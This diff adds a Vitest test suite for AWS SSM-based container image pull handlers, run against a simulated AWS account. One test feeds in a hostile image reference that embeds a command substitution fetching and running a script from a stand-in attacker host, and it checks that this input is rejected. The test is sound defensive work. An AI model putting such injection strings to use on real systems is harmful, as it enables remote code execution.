@@ -1,0 +1,338 @@
+import { CancelCommandCommand } from '@aws-sdk/client-ssm';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { handler as checkPull } from '../../functions/check-pull-command';
+import { handler as checkSsm } from '../../functions/check-ssm-agent';
+import { handler as launch } from '../../functions/launch-instance';
+import { ssm } from '../../functions/lib/clients';
+import { parsePullReport } from '../../functions/lib/pull-script';
+import type { BuildTarget, LaunchedInstance } from '../../functions/lib/schemas';
+import { COMMENT_MAX, handler as sendPull } from '../../functions/send-pull-command';
+import type { SimulatedAccount } from '../../simulation/aws/account';
+import { AwsServiceError, FAULTS } from '../../simulation/aws/core';
+import { SSM_COMMAND_LIMITS, simulatedDigest } from '../../simulation/aws/ssm-commands';
+import { buildTarget, simulatedAws } from './ec2-fixtures';
+
+const DIGEST_A = `sha256:${'a'.repeat(64)}`;
+
+const build = (overrides: Partial<BuildTarget> = {}): BuildTarget =>
+  buildTarget({
+    platforms: ['linux/amd64', 'linux/arm64'],
+    images: [
+      { reference: 'public.ecr.aws/docker/library/python:3.12', digest: DIGEST_A },
+      { reference: 'nginx' },
+      { reference: '123456789012.dkr.ecr.us-west-2.amazonaws.com/team/model:v7' },
+    ],
+    ...overrides,
+  });
+
+/** Launches a builder in the simulated account and waits (virtual time) until its agent is Online. */
+const onlineBuilder = async (target: BuildTarget): Promise<LaunchedInstance> => {
+  const instance = await launch({ build: target });
+  await vi.advanceTimersByTimeAsync(60_000);
+  return instance;
+};
+
+const sendRequest = (account: SimulatedAccount) => account.core.callsOf('ssm', 'SendCommand').at(-1)!.input as Record<string, any>;
+
+describe('check-ssm-agent', () => {
+  let account: SimulatedAccount;
+  let restore: () => void;
+  beforeEach(() => ({ account, restore } = simulatedAws()));
+  afterEach(() => restore());
+
+  it('reports the agent offline until it registers, then Online', async () => {
+    // Prepare
+    const target = build();
+    const instance = await launch({ build: target });
+    // Act
+    const early = await checkSsm({ build: target, instance });
+    await vi.advanceTimersByTimeAsync(25_000);
+    const stillWaiting = await checkSsm({ build: target, instance });
+    await vi.advanceTimersByTimeAsync(30_000);
+    const later = await checkSsm({ build: target, instance });
+    // Assess
+    expect(early).toMatchObject({ online: false, pingStatus: 'NotRegistered' });
+    expect(stillWaiting.online).toBe(false);
+    expect(later).toEqual({ online: true, pingStatus: 'Online', checkedAt: new Date(Date.now()).toISOString() });
+    const filter = account.core.callsOf('ssm', 'DescribeInstanceInformation')[0]!.input as Record<string, any>;
+    expect(filter.Filters).toEqual([{ Key: 'InstanceIds', Values: [instance.instanceId] }]);
+  });
+
+  it('fails with InstanceLostError when the builder terminated while waiting', async () => {
+    const target = build();
+    const instance = await launch({ build: target });
+    await vi.advanceTimersByTimeAsync(21_000);
+    account.ssmCommands.agentNeverOnline(instance.instanceId);
+    account.ec2.loseInstance(instance.instanceId);
+    await expect(checkSsm({ build: target, instance })).rejects.toMatchObject({
+      name: 'InstanceLostError',
+      message: expect.stringContaining('is terminated'),
+    });
+  });
+
+  it('fails with InstanceLostError when the builder vanished', async () => {
+    const target = build();
+    const instance = await launch({ build: target });
+    account.ec2.loseInstance(instance.instanceId, { vanish: true });
+    await expect(checkSsm({ build: target, instance })).rejects.toMatchObject({ name: 'InstanceLostError', message: expect.stringContaining('vanished') });
+  });
+
+  it('fails with SsmAgentTimeoutError naming the usual causes once past limits.ssmOnlineSeconds', async () => {
+    // Prepare
+    const target = build({ limits: { ...build().limits, ssmOnlineSeconds: 300 } });
+    account.ssmCommands.agentNeverOnline();
+    const instance = await launch({ build: target });
+    await vi.advanceTimersByTimeAsync(290_000);
+    await expect(checkSsm({ build: target, instance })).resolves.toMatchObject({ online: false });
+    await vi.advanceTimersByTimeAsync(20_000);
+    // Act / Assess
+    const error = await checkSsm({ build: target, instance }).catch((e: Error) => e);
+    expect(error).toMatchObject({ name: 'SsmAgentTimeoutError' });
+    expect((error as Error).message).toMatch(/check-ssm-agent: .*300 s \(limits\.ssmOnlineSeconds raises it\)/);
+    expect((error as Error).message).toContain('AmazonSSMManagedInstanceCore');
+    expect((error as Error).message).toContain('VPC endpoints');
+  });
+
+  it('turns SSM throttling into the retryable TransientAwsError', async () => {
+    const target = build();
+    const instance = await launch({ build: target });
+    account.core.inject(FAULTS.throttle('ssm', 'DescribeInstanceInformation'));
+    await expect(checkSsm({ build: target, instance })).rejects.toMatchObject({ name: 'TransientAwsError' });
+  });
+
+  it('fails when the input lacks the instance', async () => {
+    await expect(checkSsm({ build: build() })).rejects.toMatchObject({ name: 'InvalidInputError', message: expect.stringContaining('instance') });
+  });
+});
+
+describe('send-pull-command', () => {
+  let account: SimulatedAccount;
+  let restore: () => void;
+  beforeEach(() => ({ account, restore } = simulatedAws()));
+  afterEach(() => restore());
+
+  it('sends the generated script with the execution timeout, a delivery timeout and a short comment', async () => {
+    // Prepare
+    const target = build();
+    const instance = await onlineBuilder(target);
+    // Act
+    const out = await sendPull({ build: target, instance });
+    // Assess
+    expect(out).toEqual({ commandId: expect.stringMatching(/^[0-9a-f-]{36}$/), sentAt: new Date(Date.now()).toISOString() });
+    const request = sendRequest(account);
+    expect(request.DocumentName).toBe('AWS-RunShellScript');
+    expect(request.InstanceIds).toEqual([instance.instanceId]);
+    expect(request.Comment).toBe('snapshot-factory ml-images x86_64 3 images');
+    expect(request.TimeoutSeconds).toBe(600);
+    expect(request.Parameters.executionTimeout).toEqual(['3600']);
+    const script = (request.Parameters.commands as string[]).join('\n');
+    expect(script).toContain("REFS=('public.ecr.aws/docker/library/python:3.12' 'docker.io/library/nginx:latest' '123456789012.dkr.ecr.us-west-2.amazonaws.com/team/model:v7')");
+    expect(script).toContain(`DIGESTS=('${DIGEST_A}' '' '')`);
+    expect(script).toContain('CREDS=(0 0 1)');
+    expect(script).toContain("PLATFORMS=('linux/amd64' 'linux/arm64')");
+    expect(script).toContain('CONCURRENCY=4');
+    expect(script).toContain("HOST=('apiclient' 'exec' 'admin' 'sheltie')");
+    expect(request.CloudWatchOutputConfig).toBeUndefined();
+  });
+
+  it('keeps every request within SSM limits for a hostile, long image list and recipe name', async () => {
+    // Prepare: 40 images with ~250-character names, a 128-character recipe
+    const long = (n: number): string => `registry-${n}.example.com:5000/${'a'.repeat(100)}/${'b-c_d.e'.repeat(16)}${n}:${'t'.repeat(100)}`;
+    const target = build({ recipe: 'r'.repeat(128), images: Array.from({ length: 40 }, (_, n) => ({ reference: long(n) })) });
+    const instance = await onlineBuilder(target);
+    // Act
+    await sendPull({ build: target, instance });
+    // Assess
+    const request = sendRequest(account);
+    expect(request.Comment.length).toBeLessThanOrEqual(COMMENT_MAX);
+    expect(request.Comment).toMatch(/^snapshot-factory r+…$/);
+    expect(Buffer.byteLength(JSON.stringify(request.Parameters))).toBeLessThanOrEqual(SSM_COMMAND_LIMITS.maxParametersBytes);
+    expect(account.core.callsOf('ssm', 'SendCommand')[0]!.error).toBeUndefined();
+  });
+
+  it('fails with InvalidInputError before sending when the image list cannot fit one command', async () => {
+    const long = (n: number): string => `registry-${n}.example.com/${'x'.repeat(200)}:${'t'.repeat(120)}`;
+    const target = build({ images: Array.from({ length: 300 }, (_, n) => ({ reference: long(n) })) });
+    const instance = await onlineBuilder(target);
+    await expect(sendPull({ build: target, instance })).rejects.toMatchObject({ name: 'InvalidInputError', message: expect.stringContaining('split') });
+    expect(account.core.callsOf('ssm', 'SendCommand')).toHaveLength(0);
+  });
+
+  it('fails with InvalidImageReferenceError naming a hostile reference, and sends nothing', async () => {
+    const target = build({ images: [{ reference: 'nginx' }, { reference: 'evil/$(curl attacker.example|sh):1' }] });
+    const instance = await onlineBuilder(target);
+    await expect(sendPull({ build: target, instance })).rejects.toMatchObject({
+      name: 'InvalidImageReferenceError',
+      message: expect.stringContaining('evil/$(curl attacker.example|sh):1'),
+    });
+    expect(account.core.callsOf('ssm', 'SendCommand')).toHaveLength(0);
+  });
+
+  it('treats InvalidInstanceId right after the agent came Online as transient', async () => {
+    const target = build();
+    const instance = await onlineBuilder(target);
+    account.core.inject({ service: 'ssm', operation: 'SendCommand', code: 'InvalidInstanceId', message: 'Instances not in a valid state for account' });
+    await expect(sendPull({ build: target, instance })).rejects.toMatchObject({ name: 'TransientAwsError', message: expect.stringContaining('not ready') });
+    await expect(sendPull({ build: target, instance })).resolves.toMatchObject({ commandId: expect.any(String) });
+  });
+
+  it('fails with AccessDeniedError when IAM refuses SendCommand', async () => {
+    const target = build();
+    const instance = await onlineBuilder(target);
+    account.core.inject(FAULTS.accessDenied('ssm', 'SendCommand'));
+    await expect(sendPull({ build: target, instance })).rejects.toMatchObject({ name: 'AccessDeniedError' });
+  });
+});
+
+describe('check-pull-command', () => {
+  let account: SimulatedAccount;
+  let restore: () => void;
+  beforeEach(() => ({ account, restore } = simulatedAws()));
+  afterEach(() => restore());
+
+  const started = async (target: BuildTarget) => {
+    const instance = await onlineBuilder(target);
+    const pull = await sendPull({ build: target, instance });
+    return { build: target, instance, pull };
+  };
+
+  it('waits through InvocationDoesNotExist and InProgress, then reports every image x platform', async () => {
+    // Prepare
+    const input = await started(build());
+    // Act
+    const immediately = await checkPull(input);
+    await vi.advanceTimersByTimeAsync(5_000);
+    const running = await checkPull(input);
+    await vi.advanceTimersByTimeAsync(120_000);
+    const finished = await checkPull(input);
+    // Assess
+    expect(immediately).toMatchObject({ done: false, status: 'Pending', images: [] });
+    expect(account.core.callsOf('ssm', 'GetCommandInvocation')[0]!.error).toBe('InvocationDoesNotExist');
+    expect(running).toMatchObject({ done: false, status: 'InProgress' });
+    expect(finished.done).toBe(true);
+    expect(finished.status).toBe('Success');
+    expect(finished.images).toHaveLength(6);
+    expect(finished.images.find((i) => i.reference === 'public.ecr.aws/docker/library/python:3.12')?.digest).toBe(DIGEST_A);
+    expect(finished.images.find((i) => i.reference === 'docker.io/library/nginx:latest' && i.platform === 'linux/arm64')?.digest).toBe(
+      simulatedDigest('docker.io/library/nginx:latest'),
+    );
+    expect(finished.reportTruncated).toBeUndefined();
+  });
+
+  it('fails with PullFailedError naming the image the registry does not have', async () => {
+    account.ssmCommands.imageMissing('nginx');
+    const input = await started(build());
+    await vi.advanceTimersByTimeAsync(120_000);
+    const error = await checkPull(input).catch((e: Error) => e);
+    expect(error).toMatchObject({ name: 'PullFailedError' });
+    expect((error as Error).message).toMatch(/docker\.io\/library\/nginx:latest \(linux\/amd64\): .*not found/);
+  });
+
+  it('fails with PullFailedError carrying the real reason', async () => {
+    account.ssmCommands.nextCommandFails('ctr: failed to copy: httpReadSeeker: failed open: unexpected status code 403 Forbidden');
+    const input = await started(build());
+    await vi.advanceTimersByTimeAsync(120_000);
+    await expect(checkPull(input)).rejects.toMatchObject({ name: 'PullFailedError', message: expect.stringContaining('403 Forbidden') });
+  });
+
+  it('fails with DataVolumeTooSmallError saying how much is needed and which setting raises it', async () => {
+    account.ssmCommands.dataVolumeTooSmall();
+    const input = await started(build());
+    await vi.advanceTimersByTimeAsync(120_000);
+    const error = await checkPull(input).catch((e: Error) => e);
+    expect(error).toMatchObject({ name: 'DataVolumeTooSmallError' });
+    expect((error as Error).message).toMatch(/need about \d+ GiB, the data volume has \d+ GiB free of 50 GiB; raise dataVolume\.sizeGiB/);
+  });
+
+  it('fails with PullFailedError when the tag moved since prepare-build resolved it', async () => {
+    account.ssmCommands.tagMoved('public.ecr.aws/docker/library/python:3.12');
+    const input = await started(build());
+    await vi.advanceTimersByTimeAsync(120_000);
+    await expect(checkPull(input)).rejects.toMatchObject({ name: 'PullFailedError', message: expect.stringContaining('the tag moved') });
+  });
+
+  it('fails with PullCommandTimedOutError when SSM times the command out', async () => {
+    account.ssmCommands.nextCommandTimesOut();
+    const input = await started(build({ pull: { concurrency: 4, commandTimeoutSeconds: 900 } }));
+    await vi.advanceTimersByTimeAsync(600_000);
+    await expect(checkPull(input)).resolves.toMatchObject({ done: false, status: 'InProgress' });
+    await vi.advanceTimersByTimeAsync(301_000);
+    await expect(checkPull(input)).rejects.toMatchObject({ name: 'PullCommandTimedOutError', message: expect.stringContaining('900 s') });
+  });
+
+  it('fails with PullCommandTimedOutError when the command was cancelled', async () => {
+    const input = await started(build());
+    await vi.advanceTimersByTimeAsync(5_000);
+    await ssm.send(new CancelCommandCommand({ CommandId: input.pull.commandId }));
+    await expect(checkPull(input)).rejects.toMatchObject({ name: 'PullCommandTimedOutError', message: expect.stringContaining('Cancelled') });
+  });
+
+  it('fails with PullTimeoutError once the command runs longer than limits.pullSeconds', async () => {
+    account.ssmCommands.neverFinish();
+    const input = await started(build({ limits: { ...build().limits, pullSeconds: 1200 } }));
+    await vi.advanceTimersByTimeAsync(1_190_000);
+    await expect(checkPull(input)).resolves.toMatchObject({ done: false });
+    await vi.advanceTimersByTimeAsync(20_000);
+    await expect(checkPull(input)).rejects.toMatchObject({
+      name: 'PullTimeoutError',
+      message: expect.stringMatching(/still InProgress \d+ s after it was sent; the limit is 1200 s \(limits\.pullSeconds raises it\)/),
+    });
+  });
+
+  it('fails with PullFailedError when a requested image is missing from a complete report', async () => {
+    const input = await started(build());
+    await vi.advanceTimersByTimeAsync(120_000);
+    const real = account.core.handle.bind(account.core);
+    vi.spyOn(account.core, 'handle').mockImplementation(async (service, operation, request) => {
+      const out = (await real(service, operation, request)) as Record<string, string>;
+      if (operation !== 'GetCommandInvocation') return out;
+      // The script "forgot" nginx on arm64 but its summary still claims everything: a report we must not trust.
+      const stdout = out.StandardOutputContent!.split('\n').filter((l) => !(l.includes('nginx') && l.includes('linux/arm64'))).join('\n');
+      return { ...out, StandardOutputContent: stdout };
+    });
+    await expect(checkPull(input)).rejects.toMatchObject({
+      name: 'PullFailedError',
+      message: expect.stringContaining('nginx (linux/arm64) is missing from the report'),
+    });
+  });
+
+  it('trusts the summary, not the listing, when SSM truncated a long report', async () => {
+    // Prepare: 90 images x 2 platforms with long names: the report is longer than 24,000 characters.
+    const images = Array.from({ length: 90 }, (_, n) => ({ reference: `registry.example.com/${'team-'.repeat(20)}${n}/app:${'v'.repeat(60)}` }));
+    const input = await started(build({ images }));
+    await vi.advanceTimersByTimeAsync(1_000_000);
+    // Act
+    const out = await checkPull(input);
+    // Assess
+    const invocation = (await account.core.handle('ssm', 'GetCommandInvocation', { CommandId: input.pull.commandId, InstanceId: input.instance.instanceId })) as Record<string, string>;
+    expect(invocation.StandardOutputContent!.length).toBe(SSM_COMMAND_LIMITS.stdoutChars);
+    expect(parsePullReport(invocation.StandardOutputContent!).summary).toEqual({ expected: 180, ok: 180, failed: 0 });
+    expect(out).toMatchObject({ done: true, reportTruncated: true });
+    expect(out.images.length).toBeGreaterThan(0);
+    expect(out.images.length).toBeLessThan(180);
+  });
+
+  it('fails when a truncated report does not vouch for every pull', async () => {
+    const images = Array.from({ length: 90 }, (_, n) => ({ reference: `registry.example.com/${'team-'.repeat(20)}${n}/app:${'v'.repeat(60)}` }));
+    const input = await started(build({ images }));
+    await vi.advanceTimersByTimeAsync(1_000_000);
+    const real = account.core.handle.bind(account.core);
+    vi.spyOn(account.core, 'handle').mockImplementation(async (service, operation, request) => {
+      const out = (await real(service, operation, request)) as Record<string, string>;
+      if (operation !== 'GetCommandInvocation') return out;
+      return { ...out, StandardOutputContent: out.StandardOutputContent!.replace('SNAPSHOT_FACTORY_SUMMARY\t180\t180\t0', 'SNAPSHOT_FACTORY_SUMMARY\t180\t179\t0') };
+    });
+    await expect(checkPull(input)).rejects.toMatchObject({ name: 'PullFailedError', message: expect.stringContaining('truncated') });
+  });
+
+  it('fails when SSM answers InvocationDoesNotExist long after sending', async () => {
+    const input = await started(build());
+    account.core.register('ssm', {
+      GetCommandInvocation: () => {
+        throw new AwsServiceError('InvocationDoesNotExist', 'no such invocation');
+      },
+    });
+    await vi.advanceTimersByTimeAsync(61_000);
+    await expect(checkPull(input)).rejects.toMatchObject({ name: 'AwsRequestError', message: expect.stringContaining('InvocationDoesNotExist') });
+  });
+});
